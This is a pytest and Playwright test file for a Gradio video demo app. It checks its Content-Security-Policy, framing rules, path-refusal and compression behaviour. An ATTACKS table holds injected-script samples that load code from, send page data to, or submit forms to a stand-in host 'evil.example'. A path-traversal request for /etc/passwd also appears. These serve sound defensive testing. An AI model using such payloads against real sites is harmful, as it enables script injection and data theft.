"""What a browser is told about the app's answers, and what it then keeps out of the page."""

from collections.abc import Callable, Iterator
from contextlib import closing
from pathlib import Path
from urllib.parse import urlsplit

import gradio
import pytest
import requests
from http_fixtures import answering, raw_server
from page_fixtures import RUNNING, App, Visitor
from playwright.sync_api import Browser, ConsoleMessage, Route, expect

from vidu_demo.simulator import Simulator
from vidu_demo.ui.guard import front
from vidu_demo.ui.guard.policy import GRADIO_SCRIPTS, Policy, inline_scripts
from vidu_demo.ui.i18n.words import Say, speaker

FRONTEND = Path(gradio.__file__).parent / "templates" / "frontend"
READY = "[...document.querySelectorAll('#compare video')].every((video) => video.readyState > 2)"
DRAWN = "[...document.querySelectorAll('img')].every((picture) => picture.naturalWidth > 0)"


# What is sent


def directives(answer: requests.Response) -> dict[str, list[str]]:
    policy = answer.headers["Content-Security-Policy"]
    return {name: sources for name, *sources in map(str.split, policy.split(";"))}


def test_every_answer_has_the_headers(app: App) -> None:
    """Pages, files, refusals of the guard and failures of Gradio."""
    (picture,) = list(Path("vidu_demo/examples/media").rglob("*.mp4"))[:1]
    for path, status in {
        "": 200,
        "config": 200,
        "theme.css": 200,
        "nothing": 404,
        "gradio_api/token": 404,
        f"gradio_api/file={picture.resolve()}": 200,
        "gradio_api/file=/etc/passwd": 403,
    }.items():
        answer = requests.get(app.url + path, timeout=10)
        assert answer.status_code == status, path
        assert answer.headers["X-Content-Type-Options"] == "nosniff", path
        assert answer.headers["Referrer-Policy"] == "same-origin", path
        assert directives(answer)["default-src"] == ["'none'"], path
        assert "'self'" in directives(answer)["frame-ancestors"], path
        assert ("script-src" in directives(answer)) == (path == ""), path
    foreign = {"Origin": "http://evil.example"}
    refused = requests.post(app.url + "config", headers=foreign, timeout=10)
    assert refused.status_code == 403
    assert refused.headers["X-Content-Type-Options"] == "nosniff"


def test_only_hugging_face_can_frame_the_page_by_default(app: App) -> None:
    for path in ("", "config"):
        assert directives(requests.get(app.url + path, timeout=10))["frame-ancestors"] == [
            "'self'",
            "https://huggingface.co",
            "https://*.huggingface.co",
            "https://*.hf.space",
        ]


def test_a_space_may_ask_hugging_face_and_nobody_else(
    app: App, monkeypatch: pytest.MonkeyPatch
) -> None:
    elsewhere = directives(requests.get(app.url, timeout=10))
    monkeypatch.setattr(front, "get_space", lambda: "ada/vidu-demo")
    monkeypatch.setattr(app.demo.app, "middleware_stack", None)  # Starlette then makes a new one
    space = directives(requests.get(app.url, timeout=10))
    assert elsewhere["connect-src"] == ["'self'"]
    assert space == {**elsewhere, "connect-src": ["'self'", "https://huggingface.co"]}


def test_only_scripts_of_the_page_itself_may_run(app: App) -> None:
    answer = requests.get(app.url, timeout=10)
    scripts = directives(answer)["script-src"]
    hashes = [source for source in scripts if source.startswith("'sha256-")]
    assert set(inline_scripts(answer.content)) < set(hashes)
    assert set(scripts) - set(hashes) == {"'self'", "'unsafe-eval'"}


@pytest.mark.parametrize(
    ("html", "texts"),
    [
        (b"<script>a</script><SCRIPT type=module>b\n</SCRIPT>", [b"a", b"b\n"]),
        (b'<script src="x.js">a</script><script defer src=x></script>', []),
        (b"<script data-src=x>a\r\nb</script>", [b"a\nb"]),
        (b"<p>none</p>", []),
    ],
)
def test_inline_scripts_are_found(html: bytes, texts: list[bytes]) -> None:
    alone = [inline_scripts(b"<script>" + text + b"</script>")[0] for text in texts]
    assert inline_scripts(html) == alone


def test_policy_is_wider_only_where_it_must_be() -> None:
    plain = Policy().headers(b"")["Content-Security-Policy"]
    assert GRADIO_SCRIPTS not in plain
    assert "https:" not in plain.partition("frame-ancestors")[0]
    shared = Policy(shared=True).headers(b"")["Content-Security-Policy"]
    assert shared.count(GRADIO_SCRIPTS) == 4
    for policy in (Policy(), Policy(shared=True), Policy(space=True)):
        assert (
            "'unsafe-inline'"
            not in policy.headers(b"")["Content-Security-Policy"].partition("style-src")[0]
        )


# What a browser makes of it


def gradios_server(route: Route) -> None:
    """Stand in for the server from which a share link's page loads Gradio's scripts."""
    path = urlsplit(route.request.url).path.removeprefix(f"/{gradio.__version__}")
    headers = {"Access-Control-Allow-Origin": "*"}
    route.fulfill(path=FRONTEND / path.removeprefix("/"), headers=headers)


def keep(line: ConsoleMessage, errors: list[str]) -> None:
    """Keep an error. Gradio's page about the API asks for two routes that are closed."""
    closed = line.location["url"].endswith(("/monitoring/summary", "/gradio_api/mcp/schema"))
    if line.type == "error" and not closed:
        errors.append(line.text)


@pytest.fixture(params=["launched", "shared"])
def url(request: pytest.FixtureRequest, app: App) -> Iterator[str]:
    app.demo.share = request.param == "shared"
    yield app.url
    app.demo.share = False


def use_the_page(visitor: Visitor, api: Simulator, say: Say, prompt: str) -> None:
    """Make a video with the bell on, play it, and look at the page for programs."""
    page = visitor.page
    api.statuses = RUNNING
    visitor.prompt.fill(prompt)
    expect(visitor.make).to_be_enabled()
    visitor.make.click()
    visitor.choice(say("Tell me when it is done")).check()
    api.statuses = None
    expect(visitor.row(prompt)).to_have_attribute("data-state", "done")
    visitor.video.evaluate("video => video.play()")
    page.wait_for_function("document.querySelector('#video video').currentTime > 0.1")
    visitor.video.evaluate("video => video.pause()")  # what plays is work for the processor
    page.locator("#history").scroll_into_view_if_needed()
    page.wait_for_function(DRAWN)
    with page.expect_popup() as opened:
        page.locator("#foot a").click()
    programs = opened.value.locator("pre").last
    expect(programs).to_contain_text(f'Client("{visitor.url.rstrip("/")}")')
    opened.value.close()


@pytest.mark.usefixtures("small_videos")
def test_the_page_lives_under_its_policy_in_each_language(
    browser: Browser, api: Simulator, url: str, pngs: dict[str, Path]
) -> None:
    with closing(browser.new_context(locale="en-US")) as context:
        context.route(f"{GRADIO_SCRIPTS}/**", gradios_server)
        errors: list[str] = []
        context.on("console", lambda line: keep(line, errors))
        visitor = Visitor(context, url)
        page = visitor.page
        visitor.choice("540p").check()
        visitor.upload(pngs["red"])
        use_the_page(visitor, api, speaker("en-US"), "Slow push-in.")
        visitor.button("中文").click()
        expect(visitor.button("English")).to_be_visible()
        visitor.upload(pngs["red"])
        use_the_page(visitor, api, speaker("zh-CN"), "Slow pull-out.")
        visitor.row("push-in").locator("[data-do=compare]").click()
        page.wait_for_function(READY)
        page.locator("#compare .play").click()
        page.wait_for_function("document.querySelector('#compare video').currentTime > 0.1")
        assert errors == []
        assert visitor.refused == []
        assert visitor.broken == []


def test_only_the_document_is_compressed(app: App) -> None:
    page = requests.get(app.url, headers={"Accept-Encoding": "gzip"}, stream=True, timeout=30)
    assert page.headers["Content-Encoding"] == "gzip"
    assert page.headers["Vary"] == "Accept-Encoding"
    assert len(page.raw.read(decode_content=False)) < 100_000
    plain = requests.get(app.url, headers={"Accept-Encoding": "identity"}, timeout=30)
    assert "Content-Encoding" not in plain.headers
    assert "gradio_config" in plain.text
    assert page.headers["Content-Security-Policy"] == plain.headers["Content-Security-Policy"]
    # An answer can hold a secret next to what a stranger sent.
    answer = requests.post(
        app.url + "gradio_api/run/predict",
        json=app.call_body("refresh"),
        headers={"Accept-Encoding": "gzip"},
        timeout=30,
    )
    assert "Content-Encoding" not in answer.headers


ATTACKS = {
    "script-src-elem": """
        const script = document.createElement('script');
        script.src = 'http://evil.example/x.js';
        document.head.append(script);""",
    "script-src-elem inline": """
        const script = document.createElement('script');
        script.textContent = 'window.stolen = true';
        document.head.append(script);""",
    "script-src-attr inline": """
        const text = '<img src="data:," onerror="window.stolen = true">';
        document.body.insertAdjacentHTML('beforeend', text);""",
    "img-src": "new Image().src = 'http://evil.example/?' + document.title;",
    "connect-src": "fetch('http://evil.example/').catch(() => {});",
    "frame-src": """
        const frame = document.createElement('iframe');
        frame.src = 'http://evil.example/';
        document.body.append(frame);""",
    "object-src": """
        const embed = document.createElement('embed');
        embed.src = 'http://evil.example/';
        document.body.append(embed);""",
    "base-uri": """
        const base = document.createElement('base');
        base.href = 'http://evil.example/';
        document.head.prepend(base);""",
    "form-action": """
        const form = document.createElement('form');
        form.action = 'http://evil.example/';
        document.body.append(form);
        form.submit();""",
}


def test_what_is_not_the_pages_own_is_kept_out(browser: Browser, app: App) -> None:
    with closing(browser.new_context()) as context:
        asked: list[str] = []
        context.route("http://evil.example/**", lambda route: asked.append(route.request.url))
        page = Visitor(context, app.url).page
        for what, attack in ATTACKS.items():
            blocked, source = page.evaluate(
                f"""() => new Promise((resolve) => {{
                    const tell = (event) => resolve([event.effectiveDirective, event.blockedURI]);
                    document.addEventListener('securitypolicyviolation', tell, {{once: true}});
                    {attack}
                }})"""
            )
            directive, _, inline = what.partition(" ")
            assert blocked == directive
            assert source.startswith(inline or "http://evil.example"), what
            assert page.evaluate("window.stolen") is None
            assert asked == []


@pytest.fixture
def site() -> Iterator[str]:
    """A page of another site."""
    page = b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: 3\r\n\r\n<p>"
    with raw_server(answering(page)) as url:
        yield url


def framed(browser: Browser, app: App, site: str) -> bool:
    """Tell whether a site can show the app in a frame."""
    with closing(browser.new_context()) as context:
        page = context.new_page()
        page.goto(site)
        page.evaluate(
            """(url) => new Promise((resolve) => {
                const frame = document.createElement('iframe');
                frame.src = url;
                frame.onload = resolve;
                document.body.append(frame);
            })""",
            app.url,
        )
        return page.frames[1].url == app.url


def test_only_known_sites_can_frame_the_page(
    browser: Browser, app: App, site: str, framable: Callable[[str], None]
) -> None:
    assert not framed(browser, app, site)
    framable(site)
    assert framed(browser, app, site)
